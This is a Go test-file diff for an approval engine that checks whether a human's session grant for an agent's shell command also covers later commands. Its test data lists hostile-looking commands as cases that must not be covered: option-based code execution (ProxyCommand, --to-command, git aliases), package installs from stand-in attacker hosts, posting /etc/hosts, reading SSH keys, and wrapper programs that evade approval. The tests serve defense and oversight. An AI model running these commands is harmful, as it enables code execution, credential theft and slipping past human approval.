@@ -1,10 +1,13 @@
 package policy
 
 import (
+	"encoding/json"
+	"slices"
 	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/require"
+	"pgregory.net/rapid"
 
 	"approvalbot/core"
 )
@@ -22,19 +25,39 @@ func reachOf(t *testing.T, e *Engine, c core.Call) core.Reach {
 func TestReach(t *testing.T) {
 	e := engine(t)
 	for line, want := range map[string]string{
-		"frobnicate": "exec frobnicate", "frobnicate a b": "exec frobnicate", "git push origin main": "exec git push", "git push": "exec git push", "/usr/bin/git push": "exec git push", "git": "exec git",
-		"npm publish --tag x": "exec npm publish", "npm run deploy": "exec npm run deploy", "aws s3 cp a b": "exec aws s3 cp", "gcloud compute instances list": "exec gcloud compute instances list",
-		"kubectl get pods": "exec kubectl get", "curl -X POST https://x.org/y": "exec curl", "rm x": "exec rm", "frobnicate 'a; b' \"c d\"": "exec frobnicate", "make deploy": "exec make deploy",
+		"frobnicate": "exec frobnicate (exactly)", "frobnicate a b": "exec frobnicate a b (exactly)", "frobnicate 'a; b' \"c d\" ''": "exec frobnicate 'a; b' 'c d' '' (exactly)",
+		"git push origin main": "exec git push", "git push": "exec git push", "/usr/bin/git push": "exec git push", "git": "exec git (exactly)",
+		"git push -u --tags origin main": "exec git push --tags -u", "git push origin main --tags -u": "exec git push --tags -u",
+		"git push -o ci.skip origin main": "exec git push -o ci.skip", "git push --signed origin main -q -q": "exec git push --signed origin -q", "git push git@h:a/b main": "exec git push git@h:a/b",
+		"git commit -am 'a text'": "exec git commit -am", "git commit -m -s": "exec git commit -m -s", "gh pr create --title 'A b' --body c -B dev": "exec gh pr create --body --title -B dev",
+		"npm publish --tag x": "exec npm publish --tag x", "npm run deploy": "exec npm run deploy (exactly)", "npm install -D lodash @types/node@20": "exec npm install -D", "npm i ./x y": "exec npm i ./x",
+		"aws s3 cp a b": "exec aws s3 cp", "gcloud compute instances list": "exec gcloud compute instances list (exactly)", "kubectl get pods": "exec kubectl get", "kubectl label pods x env=prod": "exec kubectl label env=prod",
+		"curl -sS -X POST https://x.org/y": "exec curl -X POST -sS", "rm x": "exec rm", "rm -- x -v": "exec rm -- -v", "chmod +x a b": "exec chmod +x", "tar xzf a.tgz -C /srv": "exec tar xzf -C /srv", "make deploy": "exec make deploy (exactly)",
+		"systemctl restart nginx": "exec systemctl restart", "docker stop -t 10 web": "exec docker stop -t 10", "frob (on)": "",
 	} {
 		r := reachOf(t, e, lineCall(t, line))
 		require.Equal(t, want, r.Subject, line)
 	}
 	require.Equal(t, []string{"frobnicate", "a; b", "c d"}, reachOf(t, e, lineCall(t, `frobnicate 'a; b' "c d"`)).Words)
 	argv := reachOf(t, e, callOf(t, "exec", map[string]any{"argv": []string{"git", "push", "$(x)", ""}}))
-	require.Equal(t, core.Reach{Subject: "exec git push", Words: []string{"git", "push", "$(x)", ""}}, argv)
-	require.Equal(t, "exec frob", reachOf(t, e, callOf(t, "Bash", map[string]any{"command": "frob x"})).Subject, "a command is a command, whatever its tool is called")
+	require.Equal(t, core.Reach{Subject: "exec git push '$(x)'", Program: "exec git push", Words: []string{"git", "push", "$(x)", ""}}, argv)
+	require.Equal(t, "exec frob x (exactly)", reachOf(t, e, callOf(t, "Bash", map[string]any{"command": "frob x"})).Subject, "a command is a command, whatever its tool is called")
 	require.Equal(t, core.Reach{Subject: "webfetch"}, reachOf(t, e, callOf(t, "web_fetch", map[string]any{"url": "https://x.org"})))
 	require.Equal(t, core.Reach{Subject: "jira__Create"}, reachOf(t, e, callOf(t, "jira__Create", map[string]any{})))
+}
+
+// What is longer than people read on a card leaves no session grant; the exact
+// call may still be granted.
+func TestReachOfALongCommand(t *testing.T) {
+	e := engine(t)
+	fits := "frob " + strings.Repeat("x", core.MaxSubject-len("exec frob  (exactly)"))
+	r := reachOf(t, e, lineCall(t, fits))
+	require.Len(t, r.Subject, core.MaxSubject)
+	c := lineCall(t, fits+"x")
+	c.SessionKey = "s1"
+	j := judge(e, c)
+	require.Empty(t, j.Reach.Subject)
+	require.Equal(t, []core.Decision{core.AllowOnce, core.AllowAlways, core.Deny}, j.Offers)
 }
 
 func TestOffers(t *testing.T) {
@@ -102,7 +125,29 @@ func TestAdversary_W1_NoGrantForWrappers(t *testing.T) {
 		/usr/bin/env frob
 		tmux new frob
 		git bisect run frob
-		git submodule foreach frob`) {
+		git submodule foreach frob
+		prlimit --nofile=10 frob
+		setarch x86_64 frob
+		ssh-agent frob
+		hyperfine frob
+		dbus-run-session frob
+		systemd-inhibit frob
+		faketime x frob
+		cross-env A=b frob
+		concurrently frob
+		eatmydata frob
+		cpulimit -l 50 frob
+		sg grp frob
+		dumb-init frob
+		watchexec frob
+		xvfb-run npm test
+		nodemon x.js
+		run-parts d
+		trap x EXIT
+		socat - EXEC:frob
+		ip netns exec x frob
+		ip netns add x
+		npm explore x -- frob`) {
 		require.Empty(t, reachOf(t, e, lineCall(t, strings.TrimSpace(line))), line)
 	}
 }
@@ -114,7 +159,7 @@ func TestAdversary_W2_NoGrantForMoreThanOnePlainCommand(t *testing.T) {
 		"npm run", "npm run -s x", "aws --profile x s3 cp", "git 'push x'", "f() { x; }", "if x; then y; fi", "cd /tmp/x && frob", "while x; do y; done", "frob <(x)", "'git push'", "export A=1"} {
 		r := reachOf(t, e, lineCall(t, line))
 		if line == "npm run" {
-			require.Equal(t, "exec npm run", r.Subject)
+			require.Equal(t, "exec npm run (exactly)", r.Subject)
 			continue
 		}
 		require.Empty(t, r, line)
@@ -173,11 +218,15 @@ func TestAdversary_W6_AGrantIsForOneEnvironment(t *testing.T) {
 // W1: with some options an ordinary program runs another one, or code. Neither a
 // grant nor the operator's allowlist means that.
 func TestAdversary_W1_OptionsThatNamePrograms(t *testing.T) {
-	e := engine(t, func(c *Config) { c.ExecAllowlist = []string{"git", "tar", "rsync", "make deploy"} })
+	e := engine(t, func(c *Config) {
+		c.ExecAllowlist = []string{"git", "tar", "rsync", "make deploy", "scp", "sftp", "split", "tcpdump"}
+	})
 	for _, line := range []string{
 		"git -c alias.x='!id' x", "git -c core.pager=x log", "git --config-env=core.pager=X push", "git --exec-path=x push", "git -P -c core.sshCommand=x push",
 		"git push --receive-pack='touch x; git-receive-pack' . HEAD:z", "git push --rece=x .", "git push --exec=x .", "make deploy --eval='$(shell id)'", "make deploy SHELL=./x", "make deploy MAKEFLAGS=x", "gmake deploy --ev=x",
 		"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=x", "tar cf x.tar --to-command=x y", "tar -cIx f y", "rsync -e x a b:", "rsync -ae x a b:", "rsync --rsh=x a b:", "zip a b -T -TT x", "go build -toolexec=x .", "helm install a b --post-renderer x", "kubectl get pods --kubeconfig=x",
+		"scp -o ProxyCommand=./x a h:b", "scp -rS x a h:b", "sftp -o ProxyCommand=x h", "git clone -c core.sshCommand=x ssh://h/y", "git clone -qu x /workspace/r z", "git clone --templ=x https://h/y", "git init --template x",
+		"split --filter=x f", "tcpdump -G 1 -z x -w f", "make deploy -E '$(shell id)'",
 	} {
 		c := lineCall(t, line)
 		require.Empty(t, reachOf(t, e, c), line)
@@ -186,4 +235,170 @@ func TestAdversary_W1_OptionsThatNamePrograms(t *testing.T) {
 	for _, line := range []string{"git push -u origin main", "make deploy V=1", "rsync -av a b:", "kubectl apply -f x.yaml", "docker build --build-arg A=1 .", "curl -X POST --data-binary @x https://x.org"} {
 		require.NotEmpty(t, reachOf(t, e, lineCall(t, line)).Subject, line)
 	}
+}
+
+// coverings says of a line that people allow for the session which later lines
+// that covers.
+var coverings = []struct {
+	allowed      string
+	covers, asks []string // lines, apart by a bar
+}{
+	// Operands that are data may be others; options and their values may not.
+	{"git push origin main", list("git push origin fix-7 | git push | git push upstream v1 v2 | /usr/bin/git push origin main"),
+		list("git push -u origin main | git push --no-verify origin main | git push origin main --tags | git push -o ci.skip origin main | git push origin -c main | git push -c | git push --signed | git push -- -x | git push -- origin | git push ./evil main | git push /workspace/evil main | git push ext::evil main | git push https://evil.example/x main | git pull origin main | git push --exec=./evil | git push --receive-pack ./evil")},
+	{"git push -u --tags origin main", list("git push --tags -u upstream dev | git push origin main -u --tags | git push -u -u --tags"),
+		list("git push origin main | git push -u origin main | git push --tags=x -u origin main | git push --set-upstream --tags origin main")},
+	{"git push -o ci.skip origin main", list("git push origin -o ci.skip dev"), list("git push -o ci.run origin main | git push -o -u ci.skip | git push -oci.skip origin main")},
+	{"git push --push-option x origin main", nil, list("git push --push-option y origin main | git push --push-option origin x main")},
+	{"git push git@h:a/b main", list("git push git@h:a/b dev"), list("git push git@h:a/c main | git push origin main")},
+	{"git clone https://x.org/y", list("git clone https://x.org/z | git clone ssh://git@x.org/y dir"),
+		list("git clone -u ./evil /workspace/r z | git clone -c core.sshCommand=./evil ssh://x.org/y | git clone --template=./evil https://x.org/y z | git clone --depth 1 https://x.org/y | git clone evil::x | git clone --config core.sshCommand=./evil https://x.org/y | git clone -b x https://x.org/y")},
+	{"git fetch ssh://x.org/y", nil, list("git fetch ssh://x.org/z | git fetch --upload-pack=./evil ssh://x.org/y | git fetch --upload-pack ./evil ssh://x.org/y")},
+	{"git merge dev", list("git merge other"), list("git merge -s ./evil dev | git merge --strategy=evil dev | git merge -X theirs dev")},
+	{"git stash drop", nil, list("git stash clear | git stash | git stash pop")},
+	{"git config user.name x", list("git config user.name x"), list("git config core.sshCommand ./evil | git config alias.x '!evil' | git config user.name y")},
+	{"git remote add a https://x.org/y", nil, list("git remote add a ./evil | git remote set-url a ./evil | git remote remove a")},
+	{"git frob x", nil, list("git frob y | git frob | git frob x -c")},
+	{"git send-email x", nil, list("git send-email --smtp-server=/workspace/evil x | git send-email y")},
+	{"git -C /x push", nil, list("git -C /x push | git push")},
+	{"git tag v1", list("git tag v2"), list("git tag -d v1 | git tag -a v2 -m x")},
+	{"git tag -a v1 -m one", list("git tag v2 -a -m 'two; words'"), list("git tag v2 -am two -u key")},
+
+	{"rm a", list("rm b | rm b c"), list("rm -v b | rm -- b | rm b -i")},
+	{"mv a /srv/b", list("mv c /srv/d"), list("mv -t /srv c | mv --target-directory=/srv c | mv -f c /srv/d")},
+	{"cp a /srv/b", list("cp c /srv/d"), list("cp -r c /srv/d | cp -t /srv c")},
+	{"chmod 644 /srv/a", list("chmod 644 /srv/b /srv/c"), list("chmod 4755 /srv/a | chmod +s /srv/a | chmod -R 644 /srv/a | chmod --reference=x /srv/a | chmod -x /srv/a")},
+	{"chown bob /srv/a", list("chown bob /srv/b"), list("chown root /srv/a")},
+	{"unzip a.zip", list("unzip b.zip"), list("unzip -o b.zip -d /srv | unzip b.zip -d /srv")},
+	{"tar xf a", list("tar xf b"), list("tar xf b -C /srv | tar xfI a ./evil | tar xf b --to-command=./evil | tar cf a . | tar -xf b | tar xf b --use-compress-program ./evil | tar x --rsh-command=./evil -f h:a")},
+	{"tar -xf a", list("tar -xf b | tar -xf b c"), list("tar -xf b -C /srv | tar -xvf b | tar -C /srv -xf b")},
+	{"tar -xf a -C /srv", list("tar -C /srv -xf b"), list("tar -xf a -C /opt")},
+	{"tar cIf ./x a b", nil, list("tar cIf ./evil a b | tar cf a b")},
+	{"zip a b", list("zip c d"), list("zip a b -T -TT ./evil | zip -r a b")},
+	{"scp a h:b", list("scp c k:d"), list("scp -o ProxyCommand=./evil a h:b | scp -oProxyCommand=./evil a h:b | scp a h:b -S ./evil | scp -S ./evil a h:b | scp a -oProxyCommand=./evil:b | scp -F ./evil a h:b | scp -P 22 a h:b | scp 'h:$(evil)' b | scp 'h:`evil`' b")},
+	{"scp -P 22 a h:b", list("scp c h:d -P 22"), list("scp -P 23 a h:b | scp -P 22 -i key a h:b")},
+	{"rsync -av a h:b", list("rsync -av c k:d"), list("rsync a --rsync-path=./evil h:b | rsync -av -e ./evil a h:b | rsync -av --rsh ./evil a h:b | rsync -av -M--rsync-path=./evil a h:b | rsync -av 'h:x;evil' b | rsync -av --delete a h:b")},
+	{"curl -sS https://a.example", list("curl -sS https://b.example"), list("curl https://b.example | curl -K evil https://a.example | curl -sS -o x https://a.example | curl -sS https://a.example -d @x | curl -sS -X DELETE https://a.example | curl -sS --engine ./evil https://a.example | curl -sSo x https://a.example")},
+	{"curl -d a=1 https://a.example", list("curl https://b.example -d a=1"), list("curl -d a=2 https://a.example | curl -d @/etc/hosts https://a.example | curl -da=1 https://a.example")},
+	{"wget https://a.example/x", list("wget https://b.example/y"), list("wget -e use_askpass=./evil https://a.example/x | wget -O /srv/x https://a.example/x | wget --use-askpass=./evil https://a.example/x")},
+	{"kill 123", list("kill 124"), list("kill -9 123 | kill -s KILL 123")},
+	{"kill -9 123", list("kill -9 124"), list("kill 124 | kill -15 123")},
+	{"systemctl restart nginx", list("systemctl restart redis"), list("systemctl stop nginx | systemctl restart nginx -H evil | systemctl restart ./evil.service | systemctl link ./evil.service | systemctl enable nginx")},
+	{"systemctl enable nginx", list("systemctl enable redis"), list("systemctl enable /workspace/evil.service")},
+	{"service x start", list("service x start"), list("service y start | service x stop")},
+	{"ip addr add 10.0.0.1/8 dev x", list("ip addr add 10.0.0.2/8 dev y"), list("ip addr del 10.0.0.1/8 dev x | ip netns exec x ./evil | ip link set x up")},
+	{"ip link set x up", nil, list("ip link set y up | ip link set x xdp obj ./evil.o | ip link set x down")},
+
+	// Packages of a registry are operands; what could be a file or an address is not.
+	{"pip install x", list("pip install y z==1.2 'w[extra]' | pip install x"), list("pip install ./evil | pip install . | pip install evil.whl | pip install git+https://x.org/y | pip install -e evil | pip install -r r.txt | pip install -i https://evil.example x | pip install 'x @ https://evil.example' | pip3 install x")},
+	{"npm install lodash", list("npm install express@4.18 @types/node"), list("npm install -g lodash | npm install -D lodash | npm install ./evil | npm install user/evil | npm install evil.tgz | npm install x@npm:evil | npm install x@file:evil | npm install --script-shell=./evil | npm install --registry https://evil.example x | npm install --registry=https://evil.example x")},
+	{"npm install -D lodash", list("npm install express -D"), list("npm install lodash | npm install --save-dev lodash")},
+	{"apt install x", list("apt install y"), list("apt install ./evil.deb | apt install -o DPkg::Pre-Invoke::=./evil x | apt install -oDPkg::Pre-Invoke::=./evil x | apt remove x")},
+	{"cargo install x", list("cargo install y"), list("cargo install --path ./evil | cargo install --git https://evil.example x | cargo install --config ./evil x")},
+	{"go get x.org/y", list("go get x.org/z@v1"), list("go get -toolexec ./evil x.org/y | go get -C /elsewhere x.org/y | go install ./evil | go get -modfile=evil x.org/y")},
+
+	// What an operand says may run is granted word for word.
+	{"make deploy", list("make deploy"), list("make deploy clean | make clean | make deploy -f /tmp/evil.mk | make deploy --file=/tmp/evil.mk | make deploy V=1 | make deploy SHELL=./evil | make -j4 deploy | make")},
+	{"make deploy V=1", list("make deploy V=1"), list("make deploy V=2 | make deploy | make V=1 deploy")},
+	{"npm run deploy", list("npm run deploy"), list("npm run deploy --prefix /tmp/evil | npm run deploy x | npm run deploy -- x | npm run other")},
+	{"yarn tsx a.ts", nil, list("yarn tsx evil.ts | yarn tsx")},
+	{"just deploy", nil, list("just deploy -f /tmp/evil | just other")},
+	{"gradle build", nil, list("gradle build publish | gradle build -I evil.gradle")},
+	{"docker build -t x .", list("docker build -t x ."), list("docker build -t x /evil | docker build -t x -f evil . | docker build .")},
+	{"docker push x", list("docker push y"), list("docker push --all-tags x")},
+	{"docker cp a:b c", list("docker cp d:e f"), list("docker cp -L a:b c")},
+	{"docker stop web", list("docker stop db"), list("docker stop -t 1 web | docker rm web | docker exec web evil | docker -H evil stop web")},
+	{"kubectl get pods", list("kubectl get pods x | kubectl get secrets"), list("kubectl get --kubeconfig=./evil pods | kubectl get pods --kubeconfig ./evil | kubectl get pods -o yaml | kubectl get pods -A | kubectl get pods -n prod | kubectl get pods -- x")},
+	{"kubectl label pods x env=dev", list("kubectl label pods y env=dev"), list("kubectl label pods x env=prod")},
+	{"kubectl create job x --image=y -- a", nil, list("kubectl create job x --image=y -- evil")},
+	{"kubectl frob x", nil, list("kubectl frob y")},
+	{"gcloud compute ssh vm -- ls", nil, list("gcloud compute ssh vm -- evil | gcloud compute ssh vm")},
+	{"gcloud beta compute instances list", nil, list("gcloud beta compute instances stop")},
+	{"aws s3 cp a s3://b", list("aws s3 cp s3://c d"), list("aws s3 cp a s3://b --endpoint-url https://evil.example | aws s3 cp a s3://b --profile x | aws s3 mv a s3://b")},
+	{"aws s3 ls", nil, list("aws s3 rm --recursive s3://x")},
+	{"aws configure set a b", nil, list("aws configure set credential_process ./evil")},
+	{"gh pr list", list("gh pr list"), list("gh pr list --web | gh pr merge 1 | gh pr list -R a/b")},
+	{"gh pr create --title x --body y", list("gh pr create --body 'other; text' --title 'another'"), list("gh pr create --title x --body y --draft | gh pr create --title x --body-file .env | gh pr create --title -x --body y")},
+	{"gh api repos/x", nil, list("gh api repos/y | gh api -X DELETE repos/x")},
+	{"gh frob x", nil, list("gh frob y")},
+
+	// Nor is anything known of other programs.
+	{"frob a", list("frob a | frob 'a' | frob \"a\""), list("frob | frob b | frob a b | frob -x | frob a -x | frob 'a b' | frob 'a '")},
+	{"frob a b", nil, list("frob 'a b' | frob b a")},
+	{"frob 'a (exactly)'", nil, list("frob a")},
+	{"sftp h", nil, list("sftp -o ProxyCommand=./evil h | sftp k")},
+	{"split -b 1k f", nil, list("split --filter=./evil f | split -b 1k --filter ./evil f")},
+	{"tcpdump -w f", nil, list("tcpdump -G 1 -z ./evil -w f")},
+	{"dd if=a of=/srv/b", list("dd if=a of=/srv/b"), list("dd if=x of=/srv/y")},
+	{"openssl version", nil, list("openssl engine ./evil.so")},
+	{"logger x", nil, list("logger y")}, {"mutt x", nil, list("mutt y")}, {"7z x a", nil, list("7z x b")}, {"ffmpeg -i a b", nil, list("ffmpeg -i c d")}, {"bc f", nil, list("bc g")}, {"mount a b", nil, list("mount c d")},
+	{"ansible x", nil, list("ansible y")}, {"flatpak run x", nil, list("flatpak run y")}, {"pm2 start x", nil, list("pm2 start ./evil")}, {"supervisorctl start x", nil, list("supervisorctl start y")}, {"find . -delete", nil, list("find / -delete")},
+	{"go run x", nil, list("go run y")}, {"vagrant up", list("vagrant up"), list("vagrant up --provider evil | vagrant destroy")}, {"terraform plan", nil, list("terraform plan -chdir=/evil | terraform plan -var-file=evil")},
+	{"pytest a.py", nil, list("pytest evil.py")}, {"xvfb-run npm test", nil, list("xvfb-run ./evil | xvfb-run npm test")}, {"prlimit --nofile=10 ls", nil, list("prlimit ./evil")}, {"cat .env", nil, list("cat .ssh/id_rsa")},
+}
+
+func list(lines string) (out []string) {
+	for _, l := range strings.Split(lines, " | ") {
+		out = append(out, strings.TrimSpace(l))
+	}
+	return out
+}
+
+func TestAdversary_W1_ASessionGrantCoversWhatItsCardSaid(t *testing.T) {
+	e := engine(t)
+	covers := func(allowed, later string) bool {
+		a, b := judge(e, lineCall(t, allowed)), judge(e, lineCall(t, later))
+		return a.Reach.Subject != "" && a.Reach.Subject == b.Reach.Subject && b.Assessment.RiskClass <= a.Assessment.RiskClass
+	}
+	var wrong []string
+	for _, c := range coverings {
+		for _, later := range c.covers {
+			if !covers(c.allowed, later) {
+				wrong = append(wrong, c.allowed+" does not cover "+later)
+			}
+		}
+		for _, later := range c.asks {
+			if covers(c.allowed, later) {
+				wrong = append(wrong, c.allowed+" covers "+later)
+			}
+		}
+	}
+	require.Empty(t, wrong)
+}
+
+// Whatever has an option that the approved command had not is never covered, nor
+// what lacks one that it had.
+func TestProperty_ASessionGrantCoversNoOtherOption(t *testing.T) {
+	e := engine(t)
+	var names []string
+	for name := range dataOnly {
+		names = append(names, name)
+	}
+	slices.Sort(names)
+	rapid.Check(t, func(t *rapid.T) {
+		start := strings.Fields(rapid.SampledFrom(append(names, "frob", "make", "npm run", "kubectl create")).Draw(t, "program"))
+		word := rapid.SampledFrom([]string{"a", "b", "origin", "./x", "A=1", "", "a b", "xzf", "644", "-", "--", "-m", "-f", "-o", "-x", "-am", "-u=1", "-C", "--message", "--force", "--title", "--filter=x", "--depth", "-rf", "-9"})
+		args := func(label string) []string {
+			return append(slices.Clone(start), rapid.SliceOfN(word, 0, 6).Draw(t, label)...)
+		}
+		a, b := args("approved"), args("later")
+		subject := func(argv []string) string {
+			params, err := json.Marshal(map[string]any{"argv": argv})
+			require.NoError(t, err)
+			return judge(e, core.Call{ToolName: "exec", Params: params, AgentID: "main"}).Reach.Subject
+		}
+		options := func(argv []string) (out []string) {
+			for _, w := range argv {
+				if strings.HasPrefix(w, "-") {
+					out = append(out, w)
+				}
+			}
+			slices.Sort(out)
+			return slices.Compact(out)
+		}
+		x, y := subject(a), subject(b)
+		if x != "" && x == y {
+			require.Equal(t, options(a), options(b), "%q covers %q and %q", x, a, b)
+		}
+	})
 }
